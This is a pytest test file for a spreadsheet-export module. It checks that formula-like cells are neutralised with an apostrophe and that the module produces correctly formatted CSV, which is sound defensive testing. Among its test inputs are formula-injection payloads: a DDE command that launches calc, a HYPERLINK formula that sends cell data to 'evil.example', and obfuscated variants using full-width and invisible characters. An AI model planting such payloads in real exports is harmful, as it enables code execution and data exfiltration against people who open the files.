"""plaza.spreadsheets: which cells a spreadsheet program could run, and the one CSV writer."""

import csv
import io
import subprocess
import sys
from decimal import Decimal

import pytest

from plaza.spreadsheets import csv_document, is_formula_like, safe_cell
from tests.conftest import REPOSITORY_ROOT


@pytest.mark.parametrize("value", [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "+31 20", "-1",
    "-5", "-2+3", "@SUM(A1)",
    "＝1+1", "＋1", "－1", "＠SUM(A1)",  # full-width forms
    "  =1", " +1", "\t=1", " \t -1", "\u00a0=1", "\u3000＝1", "\u200b=1", "\ufeff=1", "\n=1", "\r\n@x",
    "\tx", "\rx", "\nx", "\x00x",  # a control character first, whatever follows
])
def test_cells_a_spreadsheet_could_run_get_an_apostrophe(value):
    assert is_formula_like(value)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [
    "Plain", "a=b", "a=1", "2024-01-01", "", "   ", "Más árboles", "'=1+1", "x\n=1+1", "x\r\n-1", "1-2", "€-5",
])
def test_harmless_text_is_kept(value):
    assert not is_formula_like(value)
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, 0, 3, -2.5, 1e-9, Decimal("-1.50"), None])
def test_numbers_and_empty_cells_are_kept_as_they_are(value):
    assert safe_cell(value) is value


def test_other_values_are_written_as_text():
    class Label:
        def __str__(self):
            return "=evil()"

    assert safe_cell(Label()) == "'=evil()"


def test_csv_document_has_a_byte_order_mark_crlf_lines_and_safe_cells():
    text = csv_document(["name", "=header", "amount"], [
        ["=1+1", "Fine\n=1+1", -5],
        ["  @x", None, 2.5],
    ])
    assert text == ('\ufeffname,\'=header,amount\r\n'
                    '\'=1+1,"Fine\n=1+1",-5\r\n'
                    '\'  @x,,2.5\r\n')
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows == [["name", "'=header", "amount"], ["'=1+1", "Fine\n=1+1", "-5"], ["'  @x", "", "2.5"]]


def test_csv_document_quotes_separators_quotes_and_line_breaks():
    text = csv_document(["a"], [['say "hi", then\r\nleave']])
    assert text == '\ufeffa\r\n"say ""hi"", then\r\nleave"\r\n'


def test_csv_document_without_rows_is_the_header_only():
    assert csv_document(["id", "title"], []) == "\ufeffid,title\r\n"


def test_the_module_loads_neither_flask_nor_the_database():
    probe = ("import sys, plaza.spreadsheets; "
             "print(sorted(name for name in ('flask', 'sqlalchemy', 'flask_babel') if name in sys.modules))")
    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=60,
                            cwd=REPOSITORY_ROOT, env={"PYTHONPATH": str(REPOSITORY_ROOT / "platform")})
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "[]"
